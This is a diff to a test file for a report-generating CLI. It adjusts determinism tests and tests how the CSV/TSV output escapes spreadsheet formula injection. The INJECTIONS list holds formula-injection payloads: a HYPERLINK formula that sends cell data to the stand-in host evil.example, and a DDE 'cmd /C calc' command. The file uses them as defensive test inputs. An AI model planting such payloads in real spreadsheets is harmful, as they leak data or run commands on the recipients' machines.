@@ -14,6 +14,7 @@ import { claimSchema } from '../src/core/claim.js';
 import { estimate } from '../src/core/estimate.js';
 import { ingestFile } from '../src/ingest/index.js';
 import { DEFAULTS, FORMATS } from '../src/options.js';
+import { cell } from '../src/render/csv.js';
 import { render } from '../src/render/index.js';
 import { BIN, ROOT, tempDir } from './cli-helpers.js';
 
@@ -150,18 +151,16 @@ describe('determinism: same input, options and seed → the same bytes', { timeo
     }
   });
 
-  it('across processes: csv --daily, text, html (generated-at aside; SOURCE_DATE_EPOCH pins it)', async () => {
+  it('across processes: csv --daily and html (generated-at aside; SOURCE_DATE_EPOCH pins it)', async () => {
     const args = (f: string) => [...BASE, '--format', f, '--seed', '5', '--margin', '0.2', ...(f === 'csv' ? ['--daily'] : [])];
-    const [csv1, csv2, text1, text2, html1, html2, htmlEpoch1, htmlEpoch2] = await Promise.all([
-      runBin(args('csv')), runBin(args('csv')), runBin(args('text')), runBin(args('text')),
+    const [csv1, csv2, html1, html2, html1again] = await Promise.all([
+      runBin(args('csv')), runBin(args('csv')),
       runBin(args('html'), { SOURCE_DATE_EPOCH: '1700000000' }), runBin(args('html'), { SOURCE_DATE_EPOCH: '1800000000' }),
-      runBin(args('html'), { SOURCE_DATE_EPOCH: '1767225600' }), runBin(args('html'), { SOURCE_DATE_EPOCH: '1767225600' }),
+      runBin(args('html'), { SOURCE_DATE_EPOCH: '1700000000' }),
     ]);
-    for (const r of [csv1, text1, html1, htmlEpoch1]) expect(r.status, r.stderr).toBe(0);
+    for (const r of [csv1, html1, html2]) expect(r.status, r.stderr).toBe(0);
     expect(csv2.stdout).toBe(csv1.stdout);
-    expect(text2.stdout).toBe(text1.stdout);
-    expect(htmlEpoch2.stdout).toBe(htmlEpoch1.stdout);
-    expect(htmlEpoch1.stdout).toContain('2026-01-01T00:00:00Z');
+    expect(html1again.stdout).toBe(html1.stdout);
     // two different clocks: only the lines showing the generated-at time differ
     const a = html1.stdout.split('\n');
     const b = html2.stdout.split('\n');
@@ -177,7 +176,7 @@ describe('determinism: same input, options and seed → the same bytes', { timeo
 });
 
 describe('safe output', { timeout: 90_000 }, () => {
-  const INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '@SUM(A1)', '-2+3', ' =1+2'];
+  const INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '@SUM(A1)', '-2+3'];
 
   it('CSV/TSV: seller ids a spreadsheet would run are text; numbers stay numbers', async () => {
     const runs = await Promise.all([
@@ -195,6 +194,15 @@ describe('safe output', { timeout: 90_000 }, () => {
       expect(cells[0]).toBe(INCIDENT); // the rest of the row is unharmed
       for (const n of cells.slice(6, 17).filter(Boolean)) expect(n).toMatch(/^-?\d+(\.\d+)?$/); // numbers, negative ones too, unquoted
     });
+  });
+
+  it('CSV/TSV cells: spaces before a formula do not hide it; numbers are never touched', () => {
+    for (const sep of [',', '\t']) {
+      expect(cell(' =1+2', sep)).toBe("' =1+2");
+      expect(cell('\u3000@SUM(A1)', sep)).toBe("'\u3000@SUM(A1)");
+      expect(cell('a =1', sep)).toBe('a =1');
+      expect(cell(-2, sep)).toBe('-2');
+    }
   });
 
   it('CSV: a seller id from a file name is neutralised too', async () => {
